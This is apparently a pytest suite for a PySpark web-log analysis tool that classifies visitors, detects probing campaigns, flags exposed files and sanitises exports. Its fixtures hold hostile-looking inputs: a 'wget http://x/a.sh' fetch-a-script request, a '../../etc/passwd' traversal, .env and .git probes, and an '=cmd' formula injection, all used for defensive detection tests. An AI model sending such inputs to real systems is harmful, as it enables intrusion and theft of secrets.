"""Operators on a few literal rows each."""

from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from visitlens.functions import columns as C
from visitlens.functions import needles as N
from visitlens.operators import baseline, classify, enrich, exposure, grouping, hosts, overview, sessions, timeline
from visitlens.operators.filters import Filters, dimension
from visitlens.sources import archive, logs

T0 = datetime(2026, 8, 20, 3, 12)
VISIT = "id long, ip string, ts timestamp_ntz, path string, status int, method string, server_port int, referer string, sec_fetch_site string, sec_fetch_mode string, sec_fetch_dest string, user_agent string, accept_encoding string, http_version string, device string, bytes_sent long, browser string"


def visits(spark, rows):
    base = {"id": 0, "ip": "198.51.100.1", "ts": T0, "path": "/", "status": 200, "method": "GET", "server_port": 443, "referer": "", "sec_fetch_site": "", "sec_fetch_mode": "", "sec_fetch_dest": "", "user_agent": "", "accept_encoding": "", "http_version": "HTTP/1.1", "device": "Desktop", "bytes_sent": 10, "browser": ""}
    data = []
    for i, r in enumerate(rows):
        at = r.pop("at", None)
        row = {**base, "id": i + 1, **r}
        if at is not None:
            row["ts"] = T0 + timedelta(seconds=at)
        data.append(tuple(row.values()))
    return spark.createDataFrame(data, VISIT)


INTEL = "ip string, country string, country_code string, city string, lat double, lon double, isp string, org string, asn string, is_proxy boolean, is_hosting boolean, is_mobile boolean, reverse_dns string, is_tor boolean, dnsbl_listed boolean, visitor_class string, fetched_at timestamp_ntz, classified_visit_id long"


def intel(spark, rows):
    base = {"ip": "198.51.100.1", "country": "", "country_code": "", "city": "", "lat": 0.0, "lon": 0.0, "isp": "", "org": "", "asn": "", "is_proxy": False, "is_hosting": False, "is_mobile": False, "reverse_dns": "", "is_tor": False, "dnsbl_listed": False, "visitor_class": None, "fetched_at": T0, "classified_visit_id": None}
    return spark.createDataFrame([tuple({**base, **r}.values()) for r in rows], INTEL)


def values(spark, rows=()):
    return spark.createDataFrame(list(rows), "ip string, kind string, value string")


def one(df):
    return df.collect()[0]


# ---- sessions -----------------------------------------------------------------------------------


def test_a_gap_of_the_limit_joins_and_one_second_more_splits(spark):
    for gap, want in ((1800, [1, 1]), (1801, [1, 2])):
        df = sessions.sessionize(visits(spark, [{"at": 0}, {"at": gap}]))
        assert [r.session_no for r in df.orderBy("id").collect()] == want


def test_pages_are_read_or_unserved(spark):
    rows = [{"path": "/a?x=1"}, {"path": "/a?x=2"}, {"path": "/b", "status": 404}, {"path": "[empty request]", "status": 400}]
    f = one(sessions.session_facts(visits(spark, rows)))
    assert (f.unique_paths, f.distinct_2xx_paths, f.unserved, f.probe_404, f.requests) == (2, 1, 1, 1, 4)
    assert f.entry_path == "/a?x=1" and f.duration == 0


@pytest.mark.parametrize(
    ("rows", "want"),
    [
        ([{"path": "/login", "status": 403, "method": "POST", "at": i} for i in range(6)] + [{"path": "/x", "at": 9}], "brute-force"),
        ([{"path": f"/p{i}", "status": 404, "at": i} for i in range(9)], "enumeration"),
        ([{"path": "/", "at": 0}, {"path": "/x", "status": 404, "at": 1}], "recon"),
        ([{"path": f"/p{i}", "at": i} for i in range(8)], "scraping"),
        ([{"path": "/", "at": 0}, {"path": "/b", "at": 1}], "browsing"),
        ([{"path": "/"}], ""),
    ],
)
def test_behaviour(spark, rows, want):
    facts = sessions.session_facts(visits(spark, [dict(r) for r in rows])).withColumn("b", sessions.behaviour())
    assert one(facts).b == want


def campaign(n, start=0, paths=6):
    return [{"ip": f"203.0.113.{a + start}", "path": f"/probe{p}", "status": 404, "at": a * 60 + p} for a in range(n) for p in range(paths)]


def test_incidents(spark):
    dim = dimension(intel(spark, [{"ip": f"203.0.113.{i}", "asn": f"AS{i % 2}", "dnsbl_listed": i == 0} for i in range(3)]), values(spark))
    found = one(sessions.incidents(visits(spark, campaign(3)), dim))
    assert (found.addresses, found.asns, found.blocklisted, found.probe_404, found.score) == (3, 2, 1, 18, 3 * 3 + 2 * 2 + 4)
    assert found.members == "203.0.113.0,203.0.113.1,203.0.113.2" and len(found.digest) == 16
    assert sessions.incidents(visits(spark, campaign(2)), dim).count() == 0
    assert sessions.incidents(visits(spark, campaign(3, paths=4)), dim).count() == 0
    paths = sessions.incident_paths(visits(spark, campaign(3)), dim).orderBy("first_id").collect()
    assert [p.in_signature for p in paths] == [True] * 5 + [False]
    conventions = [{**r, "path": "/robots.txt"} for r in campaign(3)]
    assert sessions.incidents(visits(spark, conventions), dim).count() == 0


# ---- baseline -----------------------------------------------------------------------------------


def test_median_counts_empty_hours(spark):
    df = spark.createDataFrame([(4,), (8,), (6,)], "v long")
    for slots, want in ((3, 6.0), (4, 5.0), (5, 4.0), (6, 2.0), (9, 0.0)):
        assert one(df.agg(baseline.padded_median("v", F.lit(slots)).alias("m"))).m == want


def test_a_median_of_more_rows_than_slots_is_that_of_all_rows(spark):
    df = spark.createDataFrame([(1,), (2,), (9,)], "v long")
    assert one(df.agg(baseline.padded_median("v", F.lit(2)).alias("m"))).m == 2.0


def test_baseline_needs_history_and_a_spike(spark):
    now = "2026-08-30 12:00:00"
    hour = lambda h: int((datetime(2026, 8, 30, 12) - timedelta(hours=h) - T0).total_seconds())
    steady = [{"at": hour(h) + 5, "ip": f"192.0.2.{i}", "path": "/x", "status": 404} for h in range(1, 24 * 16) for i in range(2)]
    spike = [{"at": hour(1) + 9, "ip": f"203.0.113.{i}", "path": "/x", "status": 404} for i in range(12)]
    r = one(baseline.hourly_baseline(visits(spark, [dict(x) for x in steady + spike]), now))
    assert (r.probing_addresses, r.typical_probing, r.probing_unusual, r.enough_history) == (14, 2.0, True, True)
    short = [x for x in steady if x["at"] >= hour(24 * 10)]
    assert not one(baseline.hourly_baseline(visits(spark, [dict(x) for x in short + spike]), now)).probing_unusual


# ---- classes ------------------------------------------------------------------------------------

CASES = [
    ([{"path": "wget http://x/a.sh", "method": "NON-HTTP", "status": 400}], {}, "threats/protocol-abusers"),
    ([{"path": "/a?x=../../etc/passwd"}], {}, "threats/exploit-probers"),
    ([{"path": "/x.ARM7"}], {}, "threats/exploit-probers"),
    ([{"path": "/wp-Login.php"}], {}, "bots/vulnerability-probers"),
    ([{"path": f"/n{i}", "status": 404} for i in range(2)] + [{}], {}, "bots/vulnerability-probers"),
    ([{"path": "/robots.txt", "status": 404}] * 5, {}, "unknown"),
    ([{}], {"reverse_dns": "Scan.Shodan.io"}, "bots/security-researchers"),
    ([{"user_agent": "CensysInspect/1"}], {}, "bots/security-researchers"),
    ([{"user_agent": "zgrab/0"}], {}, "bots/scanning-tools"),
    ([{"user_agent": "Googlebot"}], {"reverse_dns": "crawl.googlebot.com"}, "bots/search-crawlers"),
    ([{"user_agent": "GPTBot"}], {"org": "Microsoft Corporation", "is_hosting": True}, "bots/ai-crawlers"),
    ([{"user_agent": "Googlebot"}], {"is_hosting": True}, "bots/impersonators"),
    ([{"user_agent": "Googlebot"}], {}, "bots/search-crawlers"),
    ([{"user_agent": "AhrefsBot"}], {}, "bots/seo-tools"),
    ([{"user_agent": "Screaming big Frog"}], {}, "bots/seo-tools"),
    ([{"sec_fetch_mode": "navigate", "sec_fetch_dest": "document"}], {}, "humans/browser-direct"),
    ([{"sec_fetch_mode": "navigate", "sec_fetch_dest": "document", "sec_fetch_site": "cross-site"}], {}, "humans/browser-referred"),
    ([{"sec_fetch_mode": "navigate", "sec_fetch_dest": "document", "referer": "https://www.example.org/b"}], {}, "humans/browser-internal-nav"),
    ([{"sec_fetch_mode": "navigate", "sec_fetch_dest": "document"}], {"isp": "Amazon.com"}, "automated/headless-browser"),
    ([{"path": f"/{i}", "sec_fetch_mode": "navigate", "sec_fetch_dest": "document", "sec_fetch_site": "same-origin"} for i in range(3)], {"is_hosting": True}, "humans/browser-internal-nav"),
    ([{"path": "/a", "accept_encoding": "gzip, ZSTD"}, {"path": "/b"}], {}, "humans/browser-direct"),
    ([{"path": "/a", "accept_encoding": "zstd"}], {}, "unknown"),
    ([{"user_agent": "curl/8"}], {}, "automated/http-clients"),
    ([{"device": "Bot"}], {}, "bots/generic-bots"),
    ([{"path": "[handshake on HTTP port]", "method": "TLS"}], {}, "automated/protocol-mismatch"),
    ([{}], {"is_hosting": True}, "automated/datacenter"),
    ([{}], {}, "unknown"),
]


def test_rule_chain(spark):
    """Each case is an address of its own, so the whole chain is judged in one pass."""
    rows, known = [], []
    for i, (own, facts, _) in enumerate(CASES):
        rows += [{**r, "ip": f"192.0.2.{i}"} for r in own]
        known.append({**facts, "ip": f"192.0.2.{i}"})
    dim = dimension(intel(spark, known), values(spark))
    judged = classify.classify(classify.evidence(visits(spark, rows), dim, host="example.org"))
    got = {r.ip: r for r in judged.collect()}
    assert [got[f"192.0.2.{i}"].visitor_class for i in range(len(CASES))] == [c for _, _, c in CASES]
    assert all(r.why and r.source and r.rules_version == classify.RULES_VERSION for r in got.values())
    told = classify.explain(judged).filter("pos = 0").collect()
    assert {r.ip: r.text for r in told} == {ip: r.why for ip, r in got.items()} and all(r.decisive for r in told)


def test_only_addresses_with_newer_visits_are_judged_again(spark):
    known = intel(spark, [{"ip": "192.0.2.1", "classified_visit_id": 9, "visitor_class": "kept"}, {"ip": "192.0.2.2", "classified_visit_id": 1, "visitor_class": "old"}, {"ip": "192.0.2.3", "visitor_class": "unseen"}])
    v = visits(spark, [{"ip": "192.0.2.1"}, {"ip": "192.0.2.2", "user_agent": "curl/8"}])
    got = {r.ip: r for r in classify.reclassify(v, known, dimension(known, values(spark))).collect()}
    assert (got["192.0.2.1"].visitor_class, got["192.0.2.1"].reclassified) == ("kept", False)
    assert (got["192.0.2.2"].visitor_class, got["192.0.2.2"].classified_visit_id, got["192.0.2.2"].changed) == ("automated/http-clients", 2, True)
    assert got["192.0.2.3"].visitor_class == "unseen"


# ---- columns and filters --------------------------------------------------------------------------


def test_column_helpers(spark):
    df = spark.createDataFrame([("/%2eDS_Store",), ("//a/./b",), ("/a+b",), ("/%zz",)], "path string")
    assert [r[0] for r in df.select(C.canonical_path(F.col("path"))).collect()] == ["/.DS_Store", "/a/b", "/a+b", "/%zz"]
    r = spark.createDataFrame([("https://user@h:80/x",), ("nonsense",), ("android-app://q/",)], "r string")
    assert [x[0] for x in r.select(C.referrer_domain(F.col("r"))).collect()] == ["user@h:80", "nonsense", "q"]
    g = spark.createDataFrame([("bots/x",), (None,), ("",), ("unknown",), ("strange/y",), ("bots",)], "c string")
    assert [x[0] for x in g.select(C.group_of(F.col("c"))).collect()] == ["bots"] + ["unknown"] * 5
    like = spark.createDataFrame([("x86-64",), ("/ROBOTS.txt",), ("/arobots.txt",), (None,)], "p string")
    assert [x[0] for x in like.select(C.like_any(F.col("p"), ["x86_64", "%/robots.txt"])).collect()] == [True, True, False, False]


def test_windows_cover_the_last_day(spark):
    v = visits(spark, [{"ts": datetime(2026, 8, 1)}, {"ts": datetime(2026, 8, 2, 23, 59, 59)}, {"ts": datetime(2026, 8, 3)}])
    assert v.filter(C.in_window("2026-08-01", "2026-08-02")).count() == 2
    assert v.filter(C.in_moment("2026-08-01 00:00:00", "2026-08-03 00:00:00")).count() == 3
    assert v.filter(C.in_window(None, None)).count() == 3


def test_clean_needs_a_row_and_no_signal(spark):
    dim = dimension(intel(spark, [{"ip": "a"}, {"ip": "b", "is_tor": True}, {"ip": "c"}, {"ip": "d", "is_mobile": True}]), values(spark, [("c", "tag", "x")]))
    got = Filters(signals=("clean",)).apply(visits(spark, [{"ip": x} for x in "abcde"]), dim)
    assert sorted(r.ip for r in got.collect()) == ["a", "d"]
    counts = {(r.level, r.key): r.addresses for r in overview.class_counts(Filters().apply(visits(spark, [{"ip": x} for x in "abcde"]), dim)).collect()}
    assert counts[("all", "all")] == 5 == counts[("group", "unknown")]


def test_breakdown_has_no_expand_and_counts_addresses_once(spark):
    dim = dimension(intel(spark, [{"ip": "a", "country_code": "CH", "country": "S", "is_tor": True}, {"ip": "b", "country_code": "CH", "country": "S", "visitor_class": "bots/x"}]), values(spark))
    rows = Filters().apply(visits(spark, [{"ip": "a"}, {"ip": "a"}, {"ip": "b"}]), dim)
    found = grouping.countries(rows)
    r = one(found)
    assert (r.unique_ips, r.visits, r.bots_ips, r.unknown_ips, r.is_tor_ips, r.clean_ips) == (2, 3, 1, 1, 1, 1)
    assert "Expand" not in found._jdf.queryExecution().executedPlan().toString()


def test_new_addresses_and_minimum_visits(spark):
    v = visits(spark, [{"ip": "a", "ts": datetime(2026, 8, 1)}, {"ip": "a", "ts": datetime(2026, 8, 5)}, {"ip": "b", "ts": datetime(2026, 8, 5)}, {"ip": "b", "ts": datetime(2026, 8, 6)}])
    dim = dimension(intel(spark, [{"ip": "z"}]), values(spark))
    assert {r.ip for r in Filters(since="2026-08-02", seen="new").apply(v, dim).collect()} == {"b"}
    assert {r.ip for r in Filters(since="2026-08-02", min_visits=2).apply(v, dim).collect()} == {"b"}


def test_gap_fill_leaves_an_empty_series_empty(spark):
    s = spark.createDataFrame([("2026-08-02", 3)], "bucket string, total long")
    assert [tuple(r) for r in timeline.filled(s, "2026-08-01", "2026-08-03").orderBy("bucket").collect()] == [("2026-08-01", 0), ("2026-08-02", 3), ("2026-08-03", 0)]
    assert timeline.filled(s.filter("total > 9"), "2026-08-01", "2026-08-03").count() == 0


def test_neighbourhood_excludes_the_address_itself(spark):
    ips = [f"192.0.2.{i}" for i in range(7)] + ["198.51.100.9"]
    dim = dimension(intel(spark, [{"ip": ip, "visitor_class": "threats/x" if i < 6 else "bots/y", "asn": "AS1" if i < 2 else ""} for i, ip in enumerate(ips)]), values(spark))
    got = {(r.ip, r.scope): r for r in grouping.neighbourhood(Filters().apply(visits(spark, [{"ip": ip} for ip in ips]), dim), dim).collect()}
    assert (got[("192.0.2.0", "network")].peers, got[("192.0.2.0", "network")].threats, got[("192.0.2.0", "network")].dominant) == (6, 5, "threats")
    assert got[("192.0.2.1", "asn")].peers == 1 and got[("192.0.2.1", "asn")].dominant is None
    assert ("198.51.100.9", "network") not in got


def test_neighbourhood_of_ipv6_is_its_64(spark):
    ips = [f"2001:db8::{i}" for i in range(1, 7)] + ["2001:0db8:0:0:ffff::1", "2001:db8:0:1::1", "no:address", "192.0.2.1"]
    dim = dimension(intel(spark, [{"ip": ip, "visitor_class": "threats/x"} for ip in ips]), values(spark))
    got = {r.ip: r for r in grouping.neighbourhood(Filters().apply(visits(spark, [{"ip": ip} for ip in ips]), dim), dim).collect()}
    assert set(got) == set(ips[:7])
    assert {(r.value, r.peers, r.threats, r.dominant) for r in got.values()} == {("2001:db8::/64", 6, 6, "threats")}


# ---- exposure and hosts ---------------------------------------------------------------------------


def test_spellings_fold_and_benign_means_ever(spark):
    dim = dimension(intel(spark, [{"ip": "a", "visitor_class": "humans/browser-direct"}, {"ip": "b", "visitor_class": "humans/browser-direct"}]), values(spark))
    rows = [{"ip": "x", "path": "/.DS_Store"}, {"ip": "x", "path": "/%2eDS_Store"}, {"ip": "y", "path": "//.DS_Store"}, {"ip": "a", "path": "/.DS_Store"}, {"ip": "z", "path": "/robots%2etxt"}, {"ip": "z", "path": "/p?x=1"}, {"ip": "z", "path": "/no", "status": 301}]
    rows += [{"ip": i, "path": "/page", "at": -86_400 * 40} for i in "ab"] + [{"ip": "z", "path": "/page"}]
    got = {r.path: r for r in exposure.served(visits(spark, rows), dim, since="2026-08-01").collect()}
    assert set(got) == {"/.DS_Store", "/robots.txt", "/page"}
    assert (got["/.DS_Store"].ips, got["/.DS_Store"].hits, got["/.DS_Store"].benign_ips, got["/.DS_Store"].is_finding) == (3, 4, 1, True)
    assert got["/robots.txt"].is_site and not got["/page"].is_finding and got["/page"].benign_ips == 2


def test_families(spark):
    df = spark.createDataFrame([(p, 1, 1) for p in ["/.DS_Store", "/.git/config", "/.env.bak", "/a.sql", "/it's"]], "path string, ips long, hits long")
    got = {r.path: r for r in exposure.with_family(df).collect()}
    assert [got[p].family for p in ["/.DS_Store", "/.git/config", "/.env.bak", "/a.sql", "/it's"]] == ["os-metadata", "vcs-directory", "env-file", "backup-file", None]
    assert got["/it's"].check == "curl -sI 'https://$SITE/it'\"'\"'s'"


def test_viewport_across_the_date_line(spark):
    marks = spark.createDataFrame([(0.0, 179.0, "FJ", "bots"), (0.0, -179.0, "WS", "bots"), (0.0, 0.0, "GH", "bots")], "lat double, lon double, country_code string, grp string")
    assert {r.country_code for r in hosts.selection(marks, -1, 170, 1, -170).collect()} == {"FJ", "WS"}


def test_decisions_cap(spark):
    dim = dimension(intel(spark, [{"ip": x, "visitor_class": "threats/x"} for x in "abc"]), values(spark))
    v = visits(spark, [{"ip": "a"}, {"ip": "b", "path": "/x", "status": 404}, {"ip": "c"}, {"ip": "c"}, {"ip": "a", "at": -86_400 * 60}])
    got = hosts.decisions(v, dim, "2026-08-21 00:00:00", cap=2).collect()
    assert [(r.ip, r.truncated) for r in got] == [("b", True), ("c", True)]


# ---- logs ---------------------------------------------------------------------------------------

LINE = '{"time":"2026-08-20T03:12:00+00:00","remote_addr":"%s","request":"%s","status":200,"body_bytes_sent":5,"connection":%d,"connection_requests":1%s}'


def lines(spark, rows):
    return spark.createDataFrame([(r,) for r in rows], "value string")


def test_ingest(spark):
    raw = [LINE % ("198.51.100.1", "GET /a HTTP/1.1", 7, ""), LINE % ("198.51.100.1", "GET /a HTTP/1.1", 7, ""), LINE % ("198.51.100.1", "GET /a HTTP/1.1", 0, ""), LINE % ("198.51.100.1", "GET /a HTTP/1.1", 0, ""), "{broken", '{"time":"x"}', LINE % ("10.1.2.3", "GET / HTTP/1.1", 1, ""), LINE % ("fe80::1", "GET / HTTP/1.1", 1, ""), LINE % ("2001:db8::1", "GET / HTTP/1.1", 2, ""), LINE % ("198.51.100.2", "GET /s.css?v=1 HTTP/1.1", 3, ""), LINE % ("198.51.100.2", "GET /x HTTP/1.1", 4, ',"http_user_agent":"UptimeRobot"'), LINE % ("nobody", "GET / HTTP/1.1", 5, ""), LINE % ("198.51.100.3", "\\u0016\\u0003\\u0001", 6, ""), LINE % ("198.51.100.3", "", 8, ""), LINE % ("198.51.100.3", "hello world", 9, "")]
    got = sorted((r.ip, r.method, r.path) for r in logs.new_visits(logs.to_visits(lines(spark, raw))).collect())
    assert got == sorted([("198.51.100.1", "GET", "/a")] * 3 + [("2001:db8::1", "GET", "/"), ("198.51.100.3", "TLS", "[handshake on HTTP port]"), ("198.51.100.3", "UNKNOWN", "[empty request]"), ("198.51.100.3", "NON-HTTP", "hello world")])
    ports = {r.ip: r.server_port for r in logs.to_visits(lines(spark, raw + [LINE % ("198.51.100.9", "GET / HTTP/1.1", 3, ',"ssl_protocol":"TLSv1.3"')])).collect()}
    assert (ports["2001:db8::1"], ports["198.51.100.9"]) == (80, 443)
    q = one(logs.quality(lines(spark, raw)))
    assert (q.lines, q.unparseable, q.invalid, q.non_utc) == (15, 1, 1, 0)
    present = {r.field: r.present for r in logs.missing_fields(lines(spark, raw)).collect()}
    assert present["remote_addr"] == 13 and present["ssl_cipher"] == 0 and len(present) == 25


def test_internal_ranges(spark):
    df = spark.createDataFrame([(x,) for x in ["172.15.0.1", "172.16.0.1", "172.32.0.0", "127.9.9.9", "256.1.1.1", "::1", "fd00::1", "2001:db8::1", None]], "remote_addr string")
    got = {r.remote_addr: (r.is_address, r.is_internal) for r in logs.with_address_facts(df).collect()}
    assert [got[x][1] for x in ["172.15.0.1", "172.16.0.1", "172.32.0.0", "127.9.9.9", "::1", "fd00::1", "2001:db8::1"]] == [False, True, False, True, True, True, False]
    assert not got["256.1.1.1"][0] and got["2001:db8::1"][0]
    assert one(spark.createDataFrame([("2001:db8:1:2:3::4",)], "ip string").select(C.v6_facts("ip").alias("f"))).f.network == "2001:db8:1:2::/64"


def test_static_data_counts_under_a_prefix_only(spark):
    df = spark.createDataFrame([("/a.json",), ("/data/a.json",), ("/a.min.JS?x",), ("/a.js/b",)], "path string")
    assert [r[0] for r in df.select(logs.is_static(F.col("path"), ("/data/",))).collect()] == [False, True, True, False]


# ---- archives and merges ------------------------------------------------------------------------


def test_archive_round_trip(spark, tmp_path):
    v = visits(spark, [{"ts": datetime(2026, 7, 15), "ip": "a"}, {"ts": datetime(2026, 8, 15), "ip": "b"}])
    i = intel(spark, [{"ip": "a", "city": "old"}, {"ip": "b"}])
    meta = one(archive.archive_month(v, i, values(spark, [("a", "port", "22")]), "2026-07", str(tmp_path)))
    assert (meta.visits, meta.addresses, meta.first) == (1, 1, "2026-07-15 00:00:00")
    left = archive.delete_months(v, ["2026-07"])
    back, more = archive.restore_month(spark, left, archive.purge_orphans(i, left), str(tmp_path), "2026-07")
    assert sorted(map(tuple, back.collect())) == sorted(map(tuple, v.collect()))
    assert {r.ip: r.city for r in more.collect()} == {"a": "old", "b": ""}
    again, _ = archive.restore_month(spark, back, more, str(tmp_path), "2026-07")
    assert again.count() == 2
    archive.write_visits(v, str(tmp_path / "store"))
    assert spark.read.parquet(str(tmp_path / "store")).filter("month = '2026-07'").count() == 1


def test_a_window_reads_its_months_alone(spark, tmp_path):
    v = visits(spark, [{"ts": datetime(2026, m, 15), "ip": f"a{m}"} for m in (5, 6, 7, 8)])
    archive.write_visits(v, str(tmp_path / "store"))
    stored = spark.read.parquet(str(tmp_path / "store"))
    narrow = C.windowed(stored, "2026-06-10", "2026-07-20")
    assert sorted(r.ip for r in narrow.collect()) == ["a6", "a7"]
    plan = narrow._jdf.queryExecution().executedPlan().toString()
    assert "PartitionFilters: []" not in plan and "2026-06" in plan.split("PartitionFilters")[1]
    assert sorted(r.ip for r in archive.delete_months(stored, ["2026-05", "2026-08"]).collect()) == ["a6", "a7"]
    assert C.windowed(v, "2026-06-10", None).count() == 3


def test_exports_are_files(spark, tmp_path):
    rows = archive.export_rows(visits(spark, [{"path": "/a,b"}, {"path": "=x"}]), ["id", "path"])
    archive.write_export(rows, str(tmp_path / "csv"))
    archive.write_export(rows, str(tmp_path / "json"), "json")
    assert sorted(map(tuple, spark.read.option("header", True).csv(str(tmp_path / "csv")).collect())) == [("1", "/a,b"), ("2", "'=x")]
    assert {r.path for r in spark.read.json(str(tmp_path / "json")).collect()} == {"/a,b", "'=x"}


def test_other_rules_force_a_new_verdict(spark):
    v = visits(spark, [{"ip": "a", "path": "/.env"}, {"ip": "b", "path": "/.env"}])
    known = intel(spark, [{"ip": "a", "visitor_class": "unknown", "classified_visit_id": 9}, {"ip": "b", "visitor_class": "unknown", "classified_visit_id": 9}])
    marked = known.withColumn("rules_version", F.when(F.col("ip") == "a", "older").otherwise(classify.RULES_VERSION))
    got = {r.ip: r for r in classify.reclassify(v, marked, dimension(known, values(spark))).collect()}
    assert (got["a"].reclassified, got["a"].visitor_class, got["a"].rules_version) == (True, "bots/vulnerability-probers", classify.RULES_VERSION)
    assert (got["b"].reclassified, got["b"].visitor_class) == (False, "unknown")


def test_retention_boundaries(spark):
    months = spark.createDataFrame([(f"2026-{m:02d}",) for m in range(1, 9)], "month string")
    plan = {r.month: r.action for r in archive.retention_plan(months, "2026-08-31", 2, ["2026-03"], archive_months=6).collect()}
    assert plan == {"2026-01": "expire", "2026-02": "archive", "2026-03": "keep", "2026-04": "archive", "2026-05": "archive", "2026-06": "keep", "2026-07": "keep", "2026-08": "keep"}


def test_exported_cells_start_no_formula(spark):
    v = visits(spark, [{"path": "=cmd\r\nx"}, {"path": "/ok"}])
    assert [r.path for r in archive.export_rows(v, ["id", "path"]).collect()] == ["/ok", "'=cmd x"]
    assert [r.id for r in archive.export_rows(v, ["id"], after=(str(T0), 2)).collect()] == [1]


def test_upsert_keeps_what_was_not_answered(spark):
    known = intel(spark, [{"ip": "a", "city": "x", "org": "o", "is_tor": True}])
    answers = spark.createDataFrame([("a", None, ""), ("b", "y", "p")], "ip string, city string, org string")
    got = {r.ip: r for r in enrich.upsert(known, answers, "2026-09-01 00:00:00").collect()}
    assert (got["a"].city, got["a"].org, got["a"].is_tor, got["a"].fetched_at.month) == ("x", "", True, 9)
    assert (got["b"].city, got["b"].country, got["b"].is_tor) == ("y", "", None)


def test_an_empty_answer_clears_and_silence_keeps(spark):
    stored = values(spark, [("a", "port", "22"), ("a", "tag", "t"), ("b", "port", "80")])
    got = enrich.replace_values(stored, values(spark, [("a", "port", "")]), values(spark))
    assert sorted(map(tuple, got.collect())) == [("a", "tag", "t"), ("b", "port", "80")]


def test_blocklist_errors_are_no_verdict(spark):
    df = spark.createDataFrame([("a", "p", "127.255.255.254"), ("b", "p", "127.0.0.2"), ("b", "q", ""), ("c", "p", ""), ("d", "p", None)], "ip string, provider string, answer string")
    assert {r.ip: (r.dnsbl_listed, r.dnsbl_sources) for r in enrich.blocklist_verdicts(df).collect()} == {"a": (None, ""), "b": (True, "p"), "c": (False, ""), "d": (None, "")}


def test_groups_and_signals_are_fixed():
    assert len(N.SIGNALS) == 7 and len(N.GROUPS) == 5 and len(N.SCANNER_PATHS) == 30
